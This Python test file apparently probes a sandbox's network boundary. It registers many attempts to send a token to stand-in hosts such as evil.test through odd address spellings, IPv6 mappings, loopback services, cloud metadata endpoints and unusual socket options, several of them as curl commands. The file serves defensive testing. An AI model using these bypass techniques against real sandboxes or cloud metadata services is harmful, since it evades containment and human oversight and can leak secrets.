"""Ways out by the address: literals, odd spellings, the host's own, the metadata service, strange ports."""

import socket

from tests.boundary.wayout.attempt import Scene, attempt, get, reach, run, say, tls


def _http(scene: Scene, host: str, family: int = 0, port: int = 80) -> str:
    return say(reach(host, port, family), get("allowed.test", f"/{scene.token}"))


@attempt("http to a v4 literal")
def _(scene: Scene) -> object:
    return _http(scene, scene.evil4)


@attempt("http to a v6 literal")
def _(scene: Scene) -> object:
    return _http(scene, scene.evil6, socket.AF_INET6)


@attempt("http to a v4 address as mapped v6")
def _(scene: Scene) -> object:
    return _http(scene, f"::ffff:{scene.evil4}", socket.AF_INET6)


@attempt("https to a v4 literal without a name")
def _(scene: Scene) -> object:
    return say(tls(reach(scene.evil4, 443), None), get(scene.evil4, f"/{scene.token}"))


@attempt("https to a v6 literal without a name")
def _(scene: Scene) -> object:
    return say(tls(reach(scene.evil6, 443), None), get(f"[{scene.evil6}]", f"/{scene.token}"))


@attempt("http to a name that is not allowed")
def _(scene: Scene) -> object:
    return say(reach("evil.test", 80), get("evil.test", f"/{scene.token}"))


@attempt("https to a name that is not allowed")
def _(scene: Scene) -> object:
    return say(tls(reach("evil.test", 443), "evil.test"), get("evil.test", f"/{scene.token}"))


def _number(address: str) -> int:
    return int.from_bytes(socket.inet_aton(address), "big")


@attempt("the address as one decimal number")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", f"http://{_number(scene.evil4)}/{scene.token}")


@attempt("the address in hex")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", f"http://{_number(scene.evil4):#x}/{scene.token}")


@attempt("the address in octal")
def _(scene: Scene) -> object:
    octal = ".".join(f"0{int(one):o}" for one in scene.evil4.split("."))
    return run("curl", "-sS", "-m", "1", f"http://{octal}/{scene.token}")


@attempt("the address with parts left out")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", f"http://203.28951/{scene.token}")


@attempt("the address spelt odd in the resolver")
def _(scene: Scene) -> object:
    return _http(scene, socket.getaddrinfo(f"{_number(scene.evil4):#x}", 80)[0][4][0])  # type: ignore[arg-type]


@attempt("a link-local address with a zone")
def _(scene: Scene) -> object:
    link = socket.socket(socket.AF_INET6)
    link.settimeout(2)
    link.connect(("fe80::99", 80, 0, socket.if_nametoindex("lo")))
    return say(link, get("allowed.test", f"/{scene.token}"))


@attempt("an address translated by NAT64")
def _(scene: Scene) -> object:
    return _http(scene, f"64:ff9b::{scene.evil4}", socket.AF_INET6)


@attempt("a 6to4 address")
def _(scene: Scene) -> object:
    return _http(scene, f"2002:{_number(scene.evil4) >> 16:x}:{_number(scene.evil4) & 0xFFFF:x}::1")


@attempt("a private network's address")
def _(scene: Scene) -> object:
    return _http(scene, "10.20.30.40") + _http(scene, "192.168.1.1") + _http(scene, "172.17.0.1")


@attempt("an address of the class E range")
def _(scene: Scene) -> object:
    return _http(scene, "240.1.2.3")


def _on_host(address: str, family: int = 0) -> None:
    @attempt(f"a service on the host's {address}")
    def _(scene: Scene) -> object:
        where = scene.host4 if address == "own address" else address
        return say(reach(where, 11434, family), get("localhost", f"/{scene.token}"))


for _where in ("127.0.0.1", "127.8.8.8", "0.0.0.0", "localhost", "own address"):
    _on_host(_where)
for _where in ("::1", "::", "::ffff:127.0.0.1", "::127.0.0.1"):
    _on_host(_where, socket.AF_INET6)


@attempt("a name that leads to the host's loopback")
def _(scene: Scene) -> object:
    return say(reach("localhost.evil.test", 11434), get("localhost.evil.test", f"/{scene.token}"))


@attempt("the metadata service")
def _(scene: Scene) -> object:
    return say(reach("169.254.169.254", 80), get("169.254.169.254", "/latest/meta-data/"))


@attempt("the metadata service by a put for its token")
def _(scene: Scene) -> object:
    fields = ("X-aws-ec2-metadata-token-ttl-seconds: 60", "Content-Length: 0")
    return say(
        reach("169.254.169.254", 80), get("169.254.169.254", "/latest/api/token", *fields, method="PUT")
    )


@attempt("the metadata service by an allowed host's name")
def _(scene: Scene) -> object:
    return say(reach("169.254.169.254", 80), get("allowed.test", "/latest/"))


@attempt("the metadata service by v6")
def _(scene: Scene) -> object:
    return say(reach("fd00:ec2::254", 80), get("[fd00:ec2::254]", "/latest/"))


@attempt("the metadata service by name")
def _(scene: Scene) -> object:
    return say(reach("metadata.google.internal", 80), get("metadata.google.internal", "/computeMetadata/v1/"))


@attempt("the metadata service as a number")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", "http://2852039166/latest/")


@attempt("a port where nobody listens")
def _(scene: Scene) -> object:
    return _http(scene, scene.evil4, port=81)


@attempt("data in the first packet of a connection")
def _(scene: Scene) -> object:
    with socket.socket() as link:
        link.settimeout(2)
        link.sendto(get("allowed.test", f"/{scene.token}"), socket.MSG_FASTOPEN, (scene.evil4, 80))
        return link.recv(100)


@attempt("a connection by several paths")
def _(scene: Scene) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as link:
        link.settimeout(2)
        link.connect((scene.evil4, 80))
        link.sendall(get("allowed.test", f"/{scene.token}"))
        return link.recv(100)


@attempt("a connection from a privileged port with a mark")
def _(scene: Scene) -> object:
    with socket.socket() as link:
        link.settimeout(2)
        try:
            link.setsockopt(socket.SOL_SOCKET, 36, 0x1D)
            link.bind(("0.0.0.0", 443))
        except OSError:
            pass
        link.connect((scene.evil4, 8080))
        return say(link, get("allowed.test", f"/{scene.token}"))
